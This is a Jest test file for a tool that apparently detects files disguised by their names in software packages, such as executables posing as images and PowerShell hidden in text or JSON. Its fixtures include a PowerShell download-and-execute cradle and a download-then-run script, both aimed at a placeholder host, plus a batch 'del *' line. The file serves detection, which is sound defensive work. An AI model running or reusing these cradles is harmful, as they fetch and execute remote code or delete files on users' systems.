import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from '@jest/globals'
import { contentType } from '../../src/read/content.js'
import { fileFacts, packageFacts } from '../../src/read/file.js'
import { factsOf } from '../../src/read/read.js'
import { zip } from '../tooling/zip-writer.mjs'

const latin = (text: string): Uint8Array => Buffer.from(text, 'latin1')
const archive = zip([{ name: 'a.ps1', data: 'Get-Date' }])
const PE = latin(`MZ\x90\0${'\0'.repeat(80)}`)
const PNG = latin('\x89PNG\r\n\x1a\n\0\0\0\rIHDR')
const SCRIPT = '$client = New-Object Net.WebClient\n# comment\nif ($client) {\n  $client.DownloadFile("http://x.invalid", "y")\n}\nInvoke-Item -Path y\n'
const HELP = 'TOPIC\n    about_X\n\nEXAMPLES\n    $x = Get-Date\n    Get-Item -Path $x\n    Set-Item -Path $x\n    Remove-Item -Path $x\n'

describe('what a file is by its content', () => {
  test.each([
    ['a.dll', PE, 'pe'], ['liba.so', latin('\x7fELF\x02'), 'elf'], ['a.dylib', latin('\xca\xfe\xba\xbe\0\0\0\x02'), 'macho'],
    ['A.class', latin('\xca\xfe\xba\xbe\0\0\0\x34'), 'class'], ['a.zip', archive, 'zip'], ['x.nupkg', archive, 'zip'], ['a.png', PNG, 'png'],
    ['a.ps1', latin('MZ is how this comment starts'), 'powershell'], ['notes.txt', latin('BMW and other cars, more than twenty-six'), 'text'],
    ['run', latin('#!/usr/bin/env -S pwsh -NoProfile\n'), 'powershell'], ['run.sh', latin('#! /bin/bash\n'), 'shell'], ['x.py', latin('#!/usr/bin/python3\n'), 'python'],
    ['a.json', latin('{}'), 'json'], ['data', latin('  {"a":1}'), 'json'], ['x.config', latin('\ufeff<?xml version="1.0"?>'), 'xml'], ['x.bin', latin('\0\x01\x02'), 'binary'],
    ['wide.txt', Buffer.from('\ufeffplain words', 'utf16le'), 'text'], ['none.txt', new Uint8Array(0), 'empty'], ['about_X.help.txt', latin(HELP), 'text'],
  ])('%s', (path, bytes, type) => {
    const { named, appended, ...content } = contentType(bytes, path)
    expect(content).toEqual({ type })
    expect([path, named, appended]).toEqual([path, path === 'run' ? 'unknown' : undefined, undefined])
  })
})

describe('a name that hides what a file is', () => {
  test.each([
    ['logo.png', PE, { type: 'pe', named: 'png' }], ['data.dat', PE, { type: 'pe', named: 'unknown' }], ['a.ps1', PE, { type: 'pe', named: 'powershell' }],
    ['tool.dll', latin('\x7fELF\x02'), { type: 'elf', named: 'pe' }], ['liba.so', PE, { type: 'pe', named: 'elf' }], ['a.dylib', latin('\x7fELF\x02'), { type: 'elf', named: 'macho' }],
    ['readme.txt', latin(SCRIPT), { type: 'powershell', named: 'text' }], ['settings.json', latin(SCRIPT), { type: 'powershell', named: 'json' }],
    ['cache.tmp', Buffer.from(`\ufeff${SCRIPT}`, 'utf16le'), { type: 'powershell', named: 'unknown' }],
    ['one.txt', latin('IEX (New-Object Net.WebClient).DownloadString("http://x.invalid")'), { type: 'powershell', named: 'text' }],
    ['logo.jpg', archive, { type: 'zip', named: 'jpeg' }], ['logo.png', Buffer.concat([PNG, archive]), { type: 'png', appended: 'zip' }],
    ['logo.png', Buffer.concat([PNG, readFileSync(join(import.meta.dirname, '../fixtures/binaries/hello-x86.exe'))]), { type: 'png', appended: 'pe' }],
    ['help.html', latin('@echo off\r\ndel *'), { type: 'batch', named: 'html' }],
  ])('%s', (path, bytes, content) => expect(contentType(bytes, path)).toEqual(content))

  test('a program behind a picture is read', () => {
    const bytes = Buffer.concat([PNG, readFileSync(join(import.meta.dirname, '../fixtures/binaries/hello-x86.exe'))])
    const module = { name: 'X', version: '1', path: 'X', kind: 'module' as const, files: [{ path: 'logo.png', size: bytes.length, bytes: () => bytes }] }
    const inside = [...factsOf(module)].flat().filter(({ at }) => at.file === 'logo.png!program')
    expect(inside).toContainEqual(expect.objectContaining({ kind: 'component', layer: 'embedded', chain: ['appended'] }))
  })

  test('is not every odd name', () => {
    for (const path of ['x.docx', 'x.dat', 'x.jar']) expect(contentType(archive, path)).toEqual({ type: 'zip' })
    for (const path of ['a.ps1.example', 'x.ps1.txt', 'my.task']) expect(contentType(latin(SCRIPT), path)).toEqual({ type: 'powershell' })
    for (const path of ['a.so', 'a.node']) expect(contentType(latin('\xca\xfe\xba\xbe\0\0\0\x02'), path)).toEqual({ type: 'macho' })
    for (const path of ['tool', 'libx.so.1.2', 'x.node']) expect(contentType(latin('\x7fELF\x02'), path)).toEqual({ type: 'elf' })
    expect(contentType(readFileSync('docs/facts.md'), 'facts.md').named).toBeUndefined()
  })
})

test('each file gives a fact of its kind, or of why it was not read, and one for each oddity', () => {
  const file = { path: 'x.7z', size: 8, bytes: () => latin('7z\xbc\xaf\x27\x1c\0\x04'), oddities: [{ name: 'duplicate', detail: 'Twice.' }] }
  expect(fileFacts(file).map(fact => fact.with)).toEqual([
    { type: '7z', size: '8', unread: 'not supported', detail: 'A 7-Zip archive, which Modvet does not open.' }, { oddity: 'duplicate', detail: 'Twice.' },
  ])
  const closed = { path: 'x.ps1', size: 9, bytes: () => new Uint8Array(0), unread: { reason: 'encrypted' as const, detail: 'Locked.' } }
  expect(fileFacts(closed)).toEqual([{ kind: 'file', value: 'x.ps1', with: { size: '9', unread: 'encrypted', detail: 'Locked.' }, at: { file: 'x.ps1' }, layer: 'source' }])
})

test('what is odd about a package as a whole is a fact of its file', () => {
  const module = { name: 'X', version: '1', path: 'out/X.1.0.nupkg', kind: 'package' as const, files: [], oddities: [{ name: 'overlap', detail: 'Two.' }] }
  expect(packageFacts(module)).toEqual([
    { kind: 'file', value: 'X.1.0.nupkg', with: { oddity: 'overlap', detail: 'Two.' }, at: { file: 'X.1.0.nupkg' }, layer: 'source' },
  ])
})
